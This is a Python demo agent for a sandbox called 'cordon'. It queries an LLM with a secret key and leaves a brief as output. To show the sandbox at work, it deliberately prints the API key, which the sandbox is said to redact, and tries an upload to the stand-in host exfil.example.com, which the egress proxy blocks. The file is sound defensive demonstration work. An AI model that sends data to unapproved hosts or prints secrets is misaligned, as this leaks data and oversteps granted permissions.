"""A cordon agent in Python, standard library only.

It reads its input, asks an LLM (any OpenAI-compatible chat endpoint) using
the secret DEMO_LLM_KEY, tries one request the egress policy does not allow
(cordon blocks it), reports steps, and leaves a brief as an artifact plus
/workspace/output.json.

Input (/workspace/input.json):
  {"topic": "...", "llm_url": "http://llm.demo.test:8080/v1/chat/completions"}
"""
import json
import os
import sys
import urllib.error
import urllib.parse
import urllib.request

STEPS = os.environ.get("CORDON_STEPS")


def step(name, **detail):
    """One JSON line on the steps channel becomes a `step` event."""
    print(f"step: {name}", file=sys.stderr)
    if STEPS:
        with open(STEPS, "w") as f:
            f.write(json.dumps({"name": name, **detail}) + "\n")


def ask_llm(url, key, prompt):
    body = json.dumps({
        "model": "demo-1",
        "messages": [{"role": "user", "content": prompt}],
    }).encode()
    req = urllib.request.Request(url, data=body, method="POST", headers={
        "Authorization": f"Bearer {key}",
        "Content-Type": "application/json",
    })
    with urllib.request.urlopen(req, timeout=20) as resp:
        answer = json.load(resp)
    return answer["choices"][0]["message"]["content"], answer.get("usage", {})


def main():
    with open(os.environ.get("CORDON_INPUT", "/workspace/input.json")) as f:
        task = json.load(f)
    topic = task.get("topic", "sandboxes")
    step("read input", topic=topic)

    key = os.environ["DEMO_LLM_KEY"]
    # Printing the key would be a mistake; cordon redacts it from stdout,
    # stderr and events anyway.
    print(f"using key {key}")

    step("ask the LLM")
    text, usage = ask_llm(task["llm_url"], key,
                          f"Write three bullet points about {topic}.")

    # An agent that tries to send data somewhere it was not granted: the
    # proxy refuses (403) and the run's events and audit log say so.
    step("try an unlisted destination")
    blocked = None
    try:
        urllib.request.urlopen("http://exfil.example.com/upload?q=" +
                               urllib.parse.quote(topic), timeout=10)
    except urllib.error.HTTPError as e:
        blocked = f"{e.code} {e.reason}"
    except OSError as e:
        blocked = str(e)
    print(f"unlisted destination: {blocked}")

    step("write the brief")
    os.makedirs("/workspace/out", exist_ok=True)
    with open("/workspace/out/brief.md", "w") as f:
        f.write(f"# {topic}\n\n{text}\n")
    with open("/workspace/output.json", "w") as f:
        json.dump({"topic": topic, "brief": "brief.md", "llm_usage": usage,
                   "blocked_call": blocked}, f)
    print("done")


if __name__ == "__main__":
    main()
